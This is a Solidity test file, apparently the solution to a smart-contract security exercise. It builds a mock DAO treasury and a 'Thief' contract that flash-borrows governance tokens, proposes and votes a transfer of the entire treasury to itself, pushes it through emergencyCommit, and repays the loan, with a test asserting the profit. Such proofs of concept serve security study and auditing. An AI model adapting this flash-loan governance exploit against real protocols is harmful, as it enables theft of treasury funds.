// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Granary} from "../flash-governance/src/Granary.sol";
import {Silo} from "../flash-governance/src/Silo.sol";
import {Token} from "../../shared/Erc20.sol";
import {FlashLender} from "../../shared/FlashLender.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function startPrank(address) external;
    function stopPrank() external;
    function roll(uint256) external;
    function warp(uint256) external;
}

contract Thief is IFlashBorrower {
    FlashGovernanceTest private immutable t = FlashGovernanceTest(msg.sender);

    function run(uint256 loan) external {
        t.lender().flashLoan(this, address(t.seed()), loan, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        (Silo silo, Token seed, Token grain) = (t.silo(), t.seed(), t.grain());
        seed.approve(address(silo), type(uint256).max);
        uint256 seeds = seed.balanceOf(address(this));
        silo.lock(seeds);
        uint256 id = silo.propose(grain, address(this), grain.balanceOf(address(t.granary())), "");
        silo.vote(id);
        silo.emergencyCommit(id);
        silo.unlock(seeds);
        seed.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract FlashGovernanceTest {
    event log_named_uint(string key, uint256 value);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant uma = address(0x81);
    address private constant viktor = address(0x82);
    address private constant wanda = address(0x83);

    Token public seed;
    Token public grain;
    Granary public granary;
    Silo public silo;
    FlashLender public lender;

    function setUp() public {
        vm.warp(1_700_000_000);
        vm.roll(1);
        seed = new Token("Seed", "SEED");
        grain = new Token("Grain", "GRN");
        granary = new Granary();
        silo = new Silo(seed, granary);
        granary.bind(address(silo));
        lender = new FlashLender(9);
        seed.mint(address(lender), 5_000_000 ether);
        grain.mint(address(this), 2_500_000 ether);
        grain.approve(address(granary), type(uint256).max);
        granary.donate(grain, 2_500_000 ether);
        _lock(uma, 900_000 ether);
        _lock(viktor, 600_000 ether);
        _lock(wanda, 300_000 ether);
        vm.roll(7_201);
        vm.warp(1_700_086_400);
        vm.startPrank(wanda);
        silo.propose(grain, wanda, 25_000 ether, "Repairs of the roof");
        silo.vote(0);
        vm.stopPrank();
        vm.roll(7_202);
        vm.warp(1_700_086_412);
    }

    function _lock(address who, uint256 seeds) private {
        seed.mint(who, seeds);
        vm.startPrank(who);
        seed.approve(address(silo), type(uint256).max);
        silo.lock(seeds);
        vm.stopPrank();
    }

    function test_attack_pays() public {
        Thief thief = new Thief();
        seed.mint(address(thief), 10_000 ether);
        thief.run(3_590_000 ether);
        uint256 wealth = grain.balanceOf(address(thief)) + seed.balanceOf(address(thief)) / 2;
        emit log_named_uint("profit in base units of grain", wealth - 5_000 ether);
        require(wealth > 2_400_000 ether, "no profit");
    }
}
